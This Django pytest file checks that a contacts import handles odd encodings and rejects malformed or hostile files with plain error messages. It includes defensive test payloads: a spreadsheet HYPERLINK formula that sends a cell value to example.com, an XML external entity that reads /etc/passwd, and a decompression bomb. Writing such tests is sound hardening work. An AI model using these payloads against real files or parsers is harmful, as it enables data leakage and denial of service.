"""Files as people have them, and as nobody should: imported right, or refused with a sentence."""

from __future__ import annotations

import gzip
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from contacts.models import Contact
from contacts.tests.importing import counts, refused, settle
from contacts.tests.made import make_field

pytestmark = pytest.mark.django_db

SHEET = "xl/worksheets/sheet1.xml"
FORMULA = '=HYPERLINK("http://example.com?x="&A1,"Click")'


def workbook(*rows):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_sheet(content, change):
    """A workbook whose sheet is another."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.namelist():
            new.writestr(part, change(old.read(part)) if part == SHEET else old.read(part))
    return out.getvalue()


@pytest.fixture
def page_of(client):
    def read(one):
        response = client.get(reverse("import_detail", args=[one.pk]))
        assert response.status_code == 200
        return response.content.decode()

    return read


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_every_unicode_text_is_read(bring, run, encoding):
    one = run(bring("external_id;Imię;city\r\na;Łucja;Zürich €\r\n".encode(encoding)))

    assert counts(one) == (1, 0, 0)
    assert Contact.objects.get().city == "Zürich €"
    assert Contact.objects.get().attributes == {"Imi": "Łucja"}


@pytest.mark.parametrize(("encoding", "city"), [("latin-1", "Málaga"), ("cp1252", "Köln – 5 €")])
def test_western_text_of_old_programs_is_read(bring, run, encoding, city):
    run(bring(f"external_id,city\na,{city}\n".encode(encoding)))

    assert Contact.objects.get().city == city


@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"], ids=["plain", "marked"])
def test_a_few_broken_bytes_spoil_their_own_rows_alone(client, bring, run, mark):
    """Not taken for Windows-1252, which would make nonsense of every other row."""
    rows = "".join(f"u{number},Łódź\n" for number in range(50)).encode()

    one = run(bring(mark + b"external_id,city\n" + rows + b"x,K\xf6ln\ny,\xff\n"))

    assert counts(one) == (50, 0, 2)
    assert set(Contact.objects.values_list("city", flat=True)) == {"Łódź"}
    assert [row[:2] for row in refused(client, one)[1:]] == [
        ["52", "The line is not UTF-8."],
        ["53", "The line is not UTF-8."],
    ]


def test_kinds_of_line_ends_may_be_mixed(client, bring, run):
    one = run(bring(b"external_id,city\r\na,Oslo\nb,Rome\r\n\r\n\nc,Bern"))

    assert counts(one) == (3, 0, 0)


def test_a_carriage_return_within_a_row_is_refused_in_words(client, bring, run):
    one = run(bring(b"external_id,city\na,Oslo\nb,Ro\rme\nc,Bern\n"))

    assert counts(one) == (2, 0, 1)
    assert "A carriage return stands within the row" in refused(client, one)[1][1]


def test_line_breaks_and_lone_quotes_in_cells_are_kept(bring, run):
    one = run(bring('external_id,city,note\na,"New\r\nYork",5" pipe\nb,O"slo,"say ""hi"""\n'))

    assert counts(one) == (2, 0, 0)
    a, b = Contact.objects.order_by("external_id")
    assert (a.city, a.attributes["note"]) == ("New\r\nYork", '5" pipe')
    assert (b.city, b.attributes["note"]) == ('O"slo', 'say "hi"')


def test_a_file_with_names_of_columns_alone_is_imported_and_changes_nothing(bring, run):
    one = run(bring("external_id,city\n"))

    assert (one.state, *counts(one)) == ("done", 0, 0, 0)


def test_a_formula_is_stored_as_text_and_leaves_as_text(client, bring, run):
    cell = FORMULA.replace('"', '""')
    run(bring(f'external_id,city\na,"{cell}"\n'))

    assert Contact.objects.get().city == FORMULA
    sent = {"column": ["external_id", "city"], "kind": "csv"}
    answer = client.post(reverse("contact_export"), sent)
    assert f'"\'{cell}"' in b"".join(answer.streaming_content).decode()


def test_a_formula_in_a_workbook_is_stored_as_text_too(bring, run):
    run(bring(workbook(["external_id", "city"], ["a", FORMULA]), "people.xlsx"))

    assert Contact.objects.get().city == FORMULA


def test_days_as_numbers_are_days_in_fields_that_hold_them(bring, run):
    make_field("Birthday", "date")

    run(bring(workbook(["external_id", "Birthday"], ["a", 45000]), "people.xlsx"))

    assert Contact.objects.get().attributes == {"Birthday": "2023-03-15"}


def test_an_empty_file_is_refused_at_once(client, boss, folder):
    sent = {"file": SimpleUploadedFile("people.csv", b"")}

    response = client.post(reverse("import_list"), sent)

    assert response.status_code == 422
    assert "The file is empty." in response.content.decode()
    assert not list(folder.iterdir())


LONG = b"x" * 25_000_000
NAMES = ",".join(f"c{number}" for number in range(100_000))
PICTURE = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0"
BOMB = with_sheet(workbook(["a"]), lambda _: b" " * 300_000_000)
OUTSIDE = b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet '
WIDE = workbook(["external_id", *range(1_200)])


def far_away(part):
    """The only row says that there are a thousand million before it."""
    return part.replace(b'<row r="1"', b'<row r="999999999"').replace(b'r="A1"', b'r="A999999999"')


def from_outside(part):
    return part.replace(b"<worksheet ", OUTSIDE).replace(b">external_id<", b">&x;<")


@pytest.mark.parametrize(
    ("content", "name", "said"),
    [
        (LONG, "people.csv", "The line is over 1 MB."),
        (LONG, "people.jsonl", "No line of the file is a JSON object."),
        (NAMES.encode() + b"\n", "people.csv", "100,000 columns, and at most 1,000"),
        (WIDE, "people.xlsx", "1,201 columns"),
        (PICTURE, "people.csv", "perhaps a picture"),
        (b"%PDF-1.7\n", "people.csv", "perhaps a PDF"),
        (gzip.compress(b"external_id\na\n", mtime=0), "people.csv", "perhaps a gzip archive"),
        (gzip.compress(b"x" * 99, mtime=0)[:20], "people.jsonl", "perhaps a gzip archive"),
        (workbook(["a"]), "people.csv", "perhaps a workbook"),
        (workbook(["a"])[:2000], "people.xlsx", "no XLSX workbook"),
        (b"external_id,city\n", "people.xlsx", "no XLSX workbook"),
        (BOMB, "people.xlsx", "packed as no spreadsheet does it"),
        (with_sheet(workbook(["a"]), far_away), "people.xlsx", "more than 1,048,576 rows"),
        (with_sheet(workbook(["external_id"]), from_outside), "people.xlsx", "damaged"),
        (bytes(range(256)) * 40, "people.csv", "This is no text"),
        ("external_id\na\n".encode("utf-32"), "people.csv", "perhaps a text in UTF-32"),
        (b"\0" * 10_000, "people.csv", "This is no text"),
        (b"\xff\xfe", "people.csv", "The file is empty."),
        (b"external_id\ra,b\nc,d\n", "people.csv", "A carriage return stands within the row"),
    ],
    ids=lambda part: part if isinstance(part, str) else "",
)
def test_what_cannot_be_a_list_of_people_is_refused_with_a_sentence(
    bring, page_of, content, name, said
):
    one = bring(content, name)
    settle(one)

    assert one.state == "failed"
    assert said in one.error
    assert "root:" not in one.error
    assert said in page_of(one).replace("&#x27;", "'")


def test_cells_of_megabytes_and_zeros_are_refused_row_by_row(client, bring, run):
    ten = "x" * 10_000_000
    one = run(bring(f'external_id,city\na,Oslo\nb,"{ten}"\nc,a\0b\nd,{"y" * 20_000}\ne,Bern\n'))

    assert counts(one) == (2, 0, 3)
    assert set(Contact.objects.values_list("external_id", flat=True)) == {"a", "e"}
    assert [row[0] for row in refused(client, one)[1:]] == ["3", "4", "5"]


def test_a_cell_of_megabytes_in_a_workbook_is_refused_as_a_row(client, bring, run):
    content = workbook(["external_id", "city"], ["a", "here"], ["b", "Oslo"])
    huge = with_sheet(content, lambda part: part.replace(b"here", b"x" * 10_000_000))

    one = run(bring(huge, "people.xlsx"))

    assert counts(one) == (1, 0, 1)
    assert Contact.objects.get().external_id == "b"
